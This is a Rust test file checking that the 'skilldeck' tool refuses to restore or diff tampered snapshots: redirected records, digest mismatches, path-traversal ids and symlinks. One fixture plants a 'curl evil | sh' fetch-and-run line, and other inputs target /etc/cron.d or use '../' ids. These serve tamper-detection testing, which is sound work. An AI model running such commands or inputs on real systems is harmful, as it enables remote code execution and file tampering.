//! A snapshot store edited behind skilldeck's back (issue 11.9): a record naming another
//! folder or one outside every root, files that no longer match the digest, ids that are
//! paths, links inside the store. Each is refused by `restore` and `diff` with one sentence
//! naming the snapshot, before anything is written, and `snapshots --json` marks it damaged.
//! Every case runs the real binary on a throw-away machine, as a user would.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Output;

use serde_json::Value;

use crate::common::{Machine, write_skill};

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn run(machine: &Machine, args: &[&str], code: i32) -> Output {
    machine.run_expecting(args, code)
}

/// Every file below `dir` with its bytes, for "nothing changed" checks.
fn tree(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut files: Vec<(PathBuf, Vec<u8>)> = walkdir::WalkDir::new(dir)
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.file_type().is_file())
        .map(|e| (e.path().to_path_buf(), fs::read(e.path()).unwrap()))
        .collect();
    files.sort();
    files
}

/// Two skills, `one` and `two`, each snapshotted and then edited, so that a restore of either
/// would change it.
struct Two {
    machine: Machine,
    one: PathBuf,
    two: PathBuf,
}

impl Two {
    fn new() -> Self {
        let machine = Machine::new();
        let root = machine.home.join(".claude/skills");
        let (one, two) = (root.join("one"), root.join("two"));
        write_skill(&one, &[("refs/a.md", "one as snapshotted\n")]);
        write_skill(&two, &[("refs/a.md", "two as snapshotted\n")]);
        run(&machine, &["snapshot"], 0);
        fs::write(one.join("refs/a.md"), "one edited since\n").unwrap();
        fs::write(two.join("refs/a.md"), "two edited since\n").unwrap();
        Self { machine, one, two }
    }

    fn store(&self) -> PathBuf {
        self.machine.home.join(".local/share/skilldeck/snapshots")
    }

    /// The history directory of the skill named `name`.
    fn history(&self, name: &str) -> PathBuf {
        fs::read_dir(self.store())
            .unwrap()
            .map(|e| e.unwrap().path())
            .find(|p| {
                p.file_name()
                    .unwrap()
                    .to_string_lossy()
                    .starts_with(&format!("{name}-"))
            })
            .unwrap()
    }

    /// The latest snapshot directory of the skill named `name`.
    fn latest(&self, name: &str) -> PathBuf {
        let mut ids: Vec<PathBuf> = fs::read_dir(self.history(name))
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
        ids.sort();
        ids.pop().unwrap()
    }

    fn id(&self, name: &str) -> String {
        self.latest(name)
            .file_name()
            .unwrap()
            .to_string_lossy()
            .into_owned()
    }

    /// Edit the `info.json` of `name`'s latest snapshot.
    fn edit_record(&self, name: &str, edit: impl FnOnce(&mut Value)) {
        let path = self.latest(name).join("info.json");
        let mut record: Value = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
        edit(&mut record);
        fs::write(&path, serde_json::to_vec_pretty(&record).unwrap()).unwrap();
    }

    /// What both skill folders and everything beside them hold, to compare after a refusal.
    fn everything(&self) -> Vec<(PathBuf, Vec<u8>)> {
        tree(&self.machine.root())
            .into_iter()
            .filter(|(path, _)| !path.starts_with(self.machine.home.join(".local")))
            .collect()
    }

    /// `restore` and `diff` of `skill` (with `args`) both refuse, exit 1, with a sentence that
    /// names the snapshot `id` as damaged, and nothing outside the store changes.
    fn refused_as_damaged(&self, skill: &str, args: &[&str], id: &str) -> String {
        let before = self.everything();
        let mut restore = vec!["restore", skill];
        restore.extend(args);
        let output = run(&self.machine, &restore, 1);
        let said = text(&output.stderr);
        assert!(
            said.contains(&format!("snapshot {id} is damaged")),
            "restore: {said}"
        );
        assert_eq!(said.trim().lines().count(), 1, "one sentence: {said}");
        assert_eq!(
            self.everything(),
            before,
            "a refused restore wrote something"
        );
        let mut diff = vec!["diff", skill];
        diff.extend(args);
        let output = run(&self.machine, &diff, 1);
        let diffed = text(&output.stderr);
        assert!(
            diffed.contains(&format!("snapshot {id} is damaged")),
            "diff: {diffed}"
        );
        assert!(
            !text(&output.stdout).contains("+++"),
            "a diff was shown anyway"
        );
        said
    }

    fn damaged_in_json(&self) -> Vec<(String, bool)> {
        let output = run(&self.machine, &["snapshots", "--json"], 0);
        let json: Value = serde_json::from_slice(&output.stdout).unwrap();
        json["snapshots"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| {
                (
                    s["id"].as_str().unwrap().to_owned(),
                    s["damaged"].as_bool().unwrap(),
                )
            })
            .collect()
    }
}

// A record whose folder was edited to name another skill.

#[test]
fn a_record_naming_another_skill_never_restores_that_skill() {
    let two = Two::new();
    let id = two.id("one");
    let other = two.two.display().to_string();
    two.edit_record("one", |r| r["dir"] = other.clone().into());
    let said = two.refused_as_damaged("one", &[], &id);
    assert!(said.contains("not of"), "{said}");
    // By its folder, and by the id itself, just the same.
    two.refused_as_damaged(two.one.to_str().unwrap(), &[], &id);
    two.refused_as_damaged("one", &["--snapshot", &id], &id);
    assert_eq!(
        fs::read_to_string(two.two.join("refs/a.md")).unwrap(),
        "two edited since\n"
    );
    let marks = two.damaged_in_json();
    assert!(marks.contains(&(id, true)), "{marks:?}");
    assert!(marks.contains(&(two.id("two"), false)), "{marks:?}");
    // `two` has its own history: the record in one's that names two is not in it.
    run(&two.machine, &["restore", "two"], 0);
    assert_eq!(
        fs::read_to_string(two.two.join("refs/a.md")).unwrap(),
        "two as snapshotted\n"
    );
    assert_eq!(
        fs::read_to_string(two.one.join("refs/a.md")).unwrap(),
        "one edited since\n"
    );
}

#[test]
fn a_snapshot_moved_into_another_skills_history_is_not_restored_there() {
    let two = Two::new();
    let moved = two.latest("two");
    let id = two.id("two");
    fs::rename(&moved, two.history("one").join(&id)).unwrap();
    let said = two.refused_as_damaged("one", &["--snapshot", &id], &id);
    assert!(said.contains("not of"), "{said}");
    // And two, whose history it left, has none to restore.
    let before = two.everything();
    run(&two.machine, &["restore", "two"], 1);
    assert_eq!(two.everything(), before);
}

// A record naming a folder outside every root, or a system folder.

#[test]
fn a_record_naming_a_system_folder_or_one_outside_every_root_is_refused() {
    for target in ["/etc", "/etc/cron.d/skilldeck-test", "outside/planted"] {
        let two = Two::new();
        let target = if target.starts_with('/') {
            PathBuf::from(target)
        } else {
            two.machine.root().join(target)
        };
        let id = two.id("one");
        two.edit_record("one", |r| r["dir"] = target.display().to_string().into());
        two.refused_as_damaged("one", &[], &id);
        if !target.starts_with("/etc") {
            assert!(!target.exists(), "{} was created", target.display());
        }
        // Named after the record's folder, nothing matches: the record lies about its place.
        let name = target.file_name().unwrap().to_str().unwrap();
        let output = run(&two.machine, &["restore", name], 1);
        assert!(
            text(&output.stderr).contains("no skill is named"),
            "{output:?}"
        );
    }
}

#[test]
fn a_folder_outside_every_root_that_is_gone_is_not_created_by_a_restore() {
    let machine = Machine::new();
    // A history whole and true to its record, as one written in by hand would be: skilldeck
    // itself only snapshots skills in roots.
    let outside = machine.root().join("elsewhere/planted");
    write_skill(&outside, &[("run.sh", "echo hi\n")]);
    skilldeck::snapshot::Store::open(&machine.env())
        .take(&outside, skilldeck::snapshot::Reason::Manual)
        .unwrap();
    fs::remove_dir_all(&outside).unwrap();
    let output = run(&machine, &["restore", outside.to_str().unwrap()], 1);
    let said = text(&output.stderr);
    assert!(said.contains("lies in no root"), "{said}");
    assert!(!outside.exists());
    // Inside a root, a deleted skill still comes back.
    let inside = machine.home.join(".claude/skills/inside");
    write_skill(&inside, &[]);
    run(&machine, &["snapshot", "inside"], 0);
    fs::remove_dir_all(&inside).unwrap();
    run(&machine, &["restore", "inside"], 0);
    assert!(inside.join("SKILL.md").is_file());
}

// Files that no longer match the snapshot's digest.

#[test]
fn a_snapshot_whose_files_were_edited_added_removed_or_made_executable_is_refused() {
    type Edit = fn(&Path);
    let edits: [(&str, Edit); 5] = [
        ("edited", |files| {
            fs::write(files.join("refs/a.md"), "planted\n").unwrap();
        }),
        ("added", |files| {
            fs::write(files.join("refs/b.sh"), "curl evil | sh\n").unwrap();
        }),
        ("removed", |files| {
            fs::remove_file(files.join("refs/a.md")).unwrap();
        }),
        ("version control added", |files| {
            fs::create_dir_all(files.join(".git")).unwrap();
            fs::write(files.join(".git/config"), "[core]\n").unwrap();
        }),
        ("made executable", |files| {
            #[cfg(unix)]
            {
                use std::os::unix::fs::PermissionsExt;
                fs::set_permissions(files.join("refs/a.md"), fs::Permissions::from_mode(0o700))
                    .unwrap();
            }
            #[cfg(not(unix))]
            fs::write(files.join("refs/a.md"), "planted\n").unwrap();
        }),
    ];
    for (what, edit) in edits {
        let two = Two::new();
        let id = two.id("one");
        edit(&two.latest("one").join("files"));
        let said = two.refused_as_damaged("one", &[], &id);
        assert!(
            said.contains("do not match the digest") || said.contains("is not the one"),
            "{what}: {said}"
        );
        assert_eq!(
            fs::read_to_string(two.one.join("refs/a.md")).unwrap(),
            "one edited since\n",
            "{what}"
        );
    }
}

#[test]
fn a_record_whose_digest_or_time_was_edited_is_refused() {
    let fields: [(&str, Value); 3] = [
        ("digest", Value::from(format!("sha256:{}", "0".repeat(64)))),
        ("taken_at", Value::from("2020-01-01T00:00:00.000Z")),
        ("truncated", Value::from(true)),
    ];
    for (field, value) in fields {
        let two = Two::new();
        let id = two.id("one");
        two.edit_record("one", |r| r[field] = value.clone());
        let before = two.everything();
        let output = run(&two.machine, &["restore", "one"], 1);
        let said = text(&output.stderr);
        // A truncated snapshot is refused as one: it cannot bring the skill back.
        assert!(
            said.contains(&format!("snapshot {id} is damaged"))
                || (field == "truncated" && said.contains("holds only SKILL.md")),
            "{field}: {said}"
        );
        assert_eq!(two.everything(), before, "{field}");
        if field != "truncated" {
            two.refused_as_damaged("one", &[], &id);
        }
    }
}

#[cfg(unix)]
#[test]
fn a_file_of_a_snapshot_replaced_by_a_link_is_refused() {
    // Out of the store, to a file of another snapshot, and to a file of the snapshot itself,
    // each holding the very bytes the snapshot held: a link is refused whatever it points to.
    for target in ["outside", "another snapshot", "itself"] {
        let two = Two::new();
        let id = two.id("one");
        let files = two.latest("one").join("files");
        let original = files.join("refs/a.md");
        let target = match target {
            "outside" => two.machine.root().join("lookalike.md"),
            "another snapshot" => two.latest("two").join("files/refs/b.md"),
            _ => files.join("refs/copy.md"),
        };
        fs::write(&target, "one as snapshotted\n").unwrap();
        fs::remove_file(&original).unwrap();
        std::os::unix::fs::symlink(&target, &original).unwrap();
        let said = two.refused_as_damaged("one", &[], &id);
        assert!(said.contains("refs/a.md in it is a link"), "{said}");
    }
}

// Ids that are paths.

#[test]
fn an_id_that_is_a_path_names_no_snapshot() {
    let two = Two::new();
    let other_history = two.history("two");
    let other = format!(
        "../{}/{}",
        other_history.file_name().unwrap().to_string_lossy(),
        two.id("two")
    );
    let absolute = two.latest("two").display().to_string();
    for id in [other.as_str(), "..", ".", "/", absolute.as_str(), ""] {
        let before = two.everything();
        for command in ["restore", "diff"] {
            let output = run(&two.machine, &[command, "one", "--snapshot", id], 1);
            let said = text(&output.stderr);
            assert!(said.contains("has the id"), "{command} {id:?}: {said}");
        }
        assert_eq!(two.everything(), before, "{id:?}");
    }
}

#[test]
fn a_snapshot_folder_whose_name_is_not_its_id_is_refused() {
    let two = Two::new();
    let id = two.id("one");
    // Copied under a name that sorts after every id, so it passes for the latest.
    let planted = two.history("one").join("zz-planted");
    fs::rename(two.latest("one"), &planted).unwrap();
    let said = two.refused_as_damaged("one", &[], "zz-planted");
    assert!(
        said.contains("its id is not the one its record gives"),
        "{said}"
    );
    let output = run(&two.machine, &["restore", "one", "--snapshot", &id], 1);
    assert!(text(&output.stderr).contains("has the id"));
}

// Links inside the store.

#[cfg(unix)]
#[test]
fn a_link_anywhere_in_the_store_is_not_followed() {
    use std::os::unix::fs::symlink;
    // The files folder of one's snapshot, the snapshot folder itself and one's whole history,
    // each swapped for a link to two's.
    for level in ["files", "snapshot", "history"] {
        let two = Two::new();
        let id = two.id("one");
        let (link, target) = match level {
            "files" => (
                two.latest("one").join("files"),
                two.latest("two").join("files"),
            ),
            "snapshot" => (two.latest("one"), two.latest("two")),
            _ => (two.history("one"), two.history("two")),
        };
        fs::rename(&link, two.machine.root().join("moved")).unwrap();
        symlink(&target, &link).unwrap();
        let named = match level {
            "history" => two
                .history("one")
                .file_name()
                .unwrap()
                .to_string_lossy()
                .into_owned(),
            _ => id.clone(),
        };
        let before = two.everything();
        for command in ["restore", "diff"] {
            let output = run(&two.machine, &[command, "one"], 1);
            let said = text(&output.stderr);
            assert!(
                said.contains(&format!("snapshot {named} is damaged")),
                "{level}: {said}"
            );
            assert!(said.contains("link"), "{level}: {said}");
        }
        assert_eq!(two.everything(), before, "{level}");
        assert_eq!(
            fs::read_to_string(two.one.join("refs/a.md")).unwrap(),
            "one edited since\n"
        );
    }
}

#[cfg(unix)]
#[test]
fn a_files_folder_linked_out_of_the_store_is_not_read() {
    let two = Two::new();
    let id = two.id("one");
    // A folder that digests like the snapshot: only the link gives it away.
    let outside = two.machine.root().join("lookalike");
    let files = two.latest("one").join("files");
    fs::rename(&files, &outside).unwrap();
    std::os::unix::fs::symlink(&outside, &files).unwrap();
    let said = two.refused_as_damaged("one", &[], &id);
    assert!(said.contains("reached through a link"), "{said}");
    let marks = two.damaged_in_json();
    assert!(marks.contains(&(id, true)), "{marks:?}");
}

// The app's front end: its diff and its restore go through the same checks.

#[test]
fn the_apps_diff_and_restore_say_a_tampered_snapshot_is_damaged() {
    let two = Two::new();
    let id = two.id("one");
    fs::write(
        two.latest("one").join("files/refs/a.md"),
        "planted in the store\n",
    )
    .unwrap();
    let machine = skilldeck::roots::Machine::new(two.machine.env(), &two.machine.start);
    let error = skilldeck::tui::workers::tasks::make_diff(&machine, "one", &two.one, None)
        .unwrap_err()
        .to_string();
    assert!(
        error.contains(&format!("snapshot {id} is damaged")),
        "{error}"
    );
    let error = skilldeck::operations::restore::restore(&machine, &two.one, Some(&id)).unwrap_err();
    assert!(error.is_refusal());
    assert!(error.to_string().contains("is damaged"), "{error}");
    assert_eq!(
        fs::read_to_string(two.one.join("refs/a.md")).unwrap(),
        "one edited since\n"
    );
}
